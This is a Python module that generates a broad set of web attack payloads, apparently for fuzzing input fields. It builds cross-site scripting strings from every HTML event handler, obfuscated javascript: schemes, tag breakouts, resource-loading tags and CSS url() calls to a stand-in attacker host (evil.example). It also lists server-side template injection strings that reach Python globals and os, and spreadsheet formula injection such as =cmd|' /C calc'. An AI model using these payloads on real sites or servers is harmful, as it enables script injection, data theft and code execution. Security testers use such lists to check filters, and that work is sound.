"""More payloads, composed: every handler, every sort of address, every way out of a text; N is a number."""

from __future__ import annotations

from collections.abc import Iterator

_HANDLERS = (
    "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut "
    "beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay "
    "canplaythrough change click close contentvisibilityautostatechange contextlost contextmenu copy cuechange cut "
    "dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error focus "
    "focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup "
    "load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove "
    "mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel "
    "pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate "
    "progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked seeking select "
    "selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel "
    "touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection "
    "unload volumechange waiting webkitanimationend webkittransitionend wheel zoom"
).split()
#: Between the letters of a scheme, browsers skip these.
_SKIPPED = "&Tab; &NewLine; &#9; &#10; &#13; &#x9; &#xA; &#x0D; &#0009; &#x00000a; %09 %0a %0d".split()
_CLOSED = (
    "title textarea style script noscript xmp iframe noembed noframes plaintext template select option optgroup "
    "svg math table td caption button label a p li details summary dialog fieldset legend object video audio canvas"
).split()
_LOADING = (
    "img src,video poster,video src,audio src,input type=image src,body background,table background,td background,"
    "embed src,object data,iframe src,frame src,a ping,image href,use href,feImage href,script src,link href,"
    "track src,source srcset,portal src,applet code,base href,form action,button formaction"
).split(",")
_RELATIONS = "icon manifest preload prefetch preconnect dns-prefetch modulepreload prerender next import".split()
_TYPES = "text/html text/xml application/xhtml+xml application/xml image/svg+xml text/javascript".split()
_QUOTES = ('"', "'", "`", "&quot;", "&#39;", "&#34;", '\\"', "\\'", "%22", "%27", "\uff02", "\u2019", '""', "\"'")
_GAPS = ("/", "//", "/ /", " / ", "/=/", "/'/", '/"/', "\u3000", "/\u2028", "&#32;", "/`/", "%20")
_SCHEMES = "javascript JAVASCRIPT vbscript livescript mocha data blob filesystem view-source jar file intent".split()
_MOVING = "animate set animateTransform animateMotion discard".split()
_MATHEMATICAL = "maction mtext mglyph semantics annotation-xml".split()
_EQUIVALENT = "refresh set-cookie content-security-policy x-dns-prefetch-control link".split()
_TEMPLATES = """
{{N*N}}
${N*N}
#{N*N}
*{N*N}
@{N*N}
~{N*N}
<%= N*N %>
<% alert(N) %>
<?= alert(N) ?>
<?php alert(N) ?>
{N*N}
{%N*N%}
{% include 'alert(N)' %}
{{=alert(N)}}
{{#with N}}alert(N){{/with}}
{{request.application.__globals__}}N
{{cycler.__init__.__globals__.os}}N
{{lipsum|attr("__globals__")}}N
@(N*N)
$alert(N)
#set($x=alert(N))
%(N)s %s %n
{0.__class__}N
+ADw-script+AD4-alert(N)+ADw-/script+AD4-
\u00bcscript\u00bealert(N)\u00bc/script\u00be
%253Cscript%253Ealert(N)%253C/script%253E
&lt;img src=x onerror=alert(N)&gt;
&#0000060img src=x onerror=alert(N)>
&LT;script&GT;alert(N)&LT;/script&GT;
\\74script\\76alert(N)\\74/script\\76
=cmd|' /C calc'!A0 alert(N)
=HYPERLINK("//evil.example/N")
@SUM(N) alert(N)
"""
_STYLES = """
width:expression(alert(N))
behavior:url(//evil.example/N)
-moz-binding:url(//evil.example/N)
background:url(javascript:alert(N))
background:url('//evil.example/N')
list-style:url(//evil.example/N)
content:url(//evil.example/N)
cursor:url(//evil.example/N),auto
"""


def composed() -> Iterator[str]:
    """Each once, and short: all of them together must fit into a field."""
    yield from (f"<b on{handler}=alert(N)>" for handler in _HANDLERS)
    for skipped in _SKIPPED:
        yield f'<a href="java{skipped}script:alert(N)">'
        yield f"[N](java{skipped}script:alert(N))"
    yield from (f"</{closed}><svg onload=alert(N)>" for closed in _CLOSED)
    yield from (f"<{loading}=//evil.example/N>" for loading in _LOADING)
    yield from (f"<link rel={relation} href=//evil.example/N>" for relation in _RELATIONS)
    for kind in _TYPES:
        yield f"<iframe src='data:{kind},<script>alert(N)</script>'>"
        yield f"[N](data:{kind},<script>alert(N)</script>)"
    for quote in _QUOTES:
        yield f"{quote} onfocus={quote}alert(N) autofocus"
        yield f"{quote}><b onclick=alert(N)>"
    yield from (f"<img{gap}src=x{gap}onerror=alert(N)>" for gap in _GAPS)
    for scheme in _SCHEMES:
        yield f"[N]({scheme}:alert(N))"
        yield f"<a href={scheme}:alert(N)>"
    yield from (f"<svg><{moving} attributeName=href to=javascript:alert(N)>" for moving in _MOVING)
    yield from (f"<math><{place} href=javascript:alert(N)>N" for place in _MATHEMATICAL)
    yield from (f"<meta http-equiv={same} content='0;//evil.example/N'>" for same in _EQUIVALENT)
    yield from (f'<i style="{style}">' for style in _STYLES.strip().split("\n"))
    yield from _TEMPLATES.strip().split("\n")
